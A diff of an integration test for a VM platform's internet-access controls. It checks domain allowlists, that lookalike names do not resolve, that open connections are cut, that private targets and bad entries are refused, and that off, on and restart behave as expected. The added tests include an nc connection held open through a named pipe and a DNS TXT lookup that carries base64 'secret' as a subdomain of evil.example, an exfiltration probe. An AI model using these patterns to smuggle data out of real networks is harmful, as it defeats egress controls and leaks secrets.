@@ -38,7 +38,7 @@ await alice.signIn(server.link);
 await alice.send('/keys', '/keys', [['key', keyMake(server, 'key')], ['name', 'first']]);
 await until(() => server.sql("SELECT version IS NOT NULL FROM image WHERE name = 'tiny';") === '1');
 const form = (await alice.ask('GET', '/vms/new')).text;
-check('the form does not say that there is none', !form.includes('No internet access'));
+check('the form does not say that there is none', !form.includes('no internet access for VMs'));
 async function vmMake(name) {
   await alice.send('/vms/new', '/vms', [['name', name], ['image', 'tiny'], ['size', 'nano'], ['region', 'local'], ['key', server.sql('SELECT id FROM ssh_key;')]]);
   check(`${name} runs`, await until(() => server.sql(`SELECT state FROM vm WHERE name = '${name}' AND observed = 'running';`) === 'running'));
@@ -70,6 +70,47 @@ equal('the own SSH answers, as a control', (await reached(oak, [`${await address
 equal('other resolvers than the own one are not needed', await inside(oak, 'grep -c nameserver /etc/resolv.conf'), '1');
 equal('IPv6 leads nowhere', await inside(oak, 'for to in 2001:db8::1 2001:db8::2 ff02::1%eth1; do ping -6 -c 1 -W 2 $to 2>/dev/null | grep -q "from 2001" && echo $to; done; true'), '');
 
+// ---- what each may reach: some names, nothing, all ----
+const idOf = (vm) => server.sql(`SELECT id FROM vm WHERE name = '${vm.name}';`);
+async function allow(vm, mode, names = '') {
+  const { status } = await alice.send(`/vms/${idOf(vm)}/settings`, `/vms/${idOf(vm)}/internet`, [['internet', mode], ['internet_names', names]]);
+  equal(`${mode} is taken`, status, 303);
+  check(`${mode} is in effect`, await until(() => server.sql(`SELECT internet_pending FROM vm WHERE name = '${vm.name}'`) === '0'));
+}
+const fetched = (vm, host) => inside(vm, `timeout 6 wget -q -O - http://${host}/`);
+const answer = (vm, name, type = 'a') => inside(vm, `nslookup -type=${type} ${name} 2>&1 | sed -n '/^Name/,$p'`);
+// A connection that is open already: what is sent when there is a file "go" has no answer.
+const kept = inside(oak, 'cd; mkfifo pipe; nc 198.51.100.7 443 <pipe >got & exec 3>pipe; until [ -e go ]; do sleep 1; done; echo >&3; sleep 4; cat got; kill %1');
+check('a connection is open', await until(async () => (await inside(oak, 'grep -c ":01BB 01" /proc/net/tcp')) === '1'));
+await allow(oak, 'names', 'git.example, https://alias.example/path');
+await inside(oak, 'touch go');
+equal('what was open has no answer', await kept, '');
+equal('a listed name is reached', await fetched(oak, 'git.example'), 'from the internet');
+equal('and one below it', await fetched(oak, 'www.git.example'), 'from the internet');
+equal('by its addresses too, once it was asked for', (await reached(oak, ['198.51.100.7 80', '198.51.100.7 25'])).join(), '198.51.100.7 80');
+equal('another address is not', (await reached(oak, ['198.51.100.8 80', '198.51.100.1 22', ...CLOSED])).join(), '');
+equal('one that ends like a listed name is not found', await answer(oak, 'evilgit.example'), '');
+equal('nor is one that a listed name leads to, by itself', await answer(oak, 'cdn.example'), '');
+equal('a listed name that leads to it is reached', await fetched(oak, 'alias.example'), 'from the internet');
+equal('no other resolver answers', await inside(oak, 'nslookup -type=a git.example 198.51.100.1 >/dev/null 2>&1 && echo answered'), '');
+equal("nor does another guest's", await inside(elm, 'nslookup -type=a git.example 10.77.0.1:20002 >/dev/null 2>&1 && echo answered'), '');
+equal('no name carries data to others', await answer(oak, 'c2VjcmV0.evil.example', 'txt'), '');
+equal('the other guest is as it was', await fetched(elm, 'evilgit.example'), 'from the internet');
+await allow(oak, 'names', 'inside.example');
+equal('the former list is over', (await reached(oak, ['198.51.100.7 80', '198.51.100.8 80'])).join(), '');
+equal('a name that leads to a private network leads nowhere', (await reached(oak, ['192.168.9.9 80'])).join() + (await fetched(oak, 'inside.example')), '');
+for (const bad of ['198.51.100.7', 'localhost', '', 'git.example#53']) {
+  equal(`"${bad}" is refused`, (await alice.send(`/vms/${idOf(oak)}/settings`, `/vms/${idOf(oak)}/internet`, [['internet', 'names'], ['internet_names', bad]])).status, 422);
+}
+await allow(oak, 'off');
+equal('off is off', (await reached(oak, [...OPEN, ...CLOSED])).join(), '');
+equal('names too', await answer(oak, 'git.example'), '');
+equal('SSH stays', await inside(oak, 'echo here'), 'here');
+await alice.send(`/vms/${idOf(oak)}`, `/vms/${idOf(oak)}/restart`, []);
+check('it is started again', await until(async () => server.sql("SELECT state FROM vm WHERE name = 'oak'") === 'running' && (await inside(oak, 'cut -d. -f1 /proc/uptime')) < 30));
+equal('it is off after a start', (await reached(oak, OPEN)).join(), '');
+await allow(oak, 'on');
+check('on is on', await until(async () => (await fetched(oak, 'git.example')) === 'from the internet'));
 // ---- an address that the host gets later ----
 execFileSync('ip', ['address', 'add', '203.0.113.10/32', 'dev', 'lo']);
 check('the host reaches it', await until(() => connects('203.0.113.10 8080')));
@@ -108,7 +149,7 @@ check('its end is seen', await until(() => {
   kill();
   return internet() === '0';
 }));
-check('the form says so', (await alice.ask('GET', '/vms/new')).text.includes('No internet access'));
+check('the form says so', (await alice.ask('GET', '/vms/new')).text.includes('no internet access for VMs'));
 check('so does the check', await until(() => {
   kill();
   return admin('check').includes('FAIL region local: guests have no internet: a part of their network has ended (status 137)');
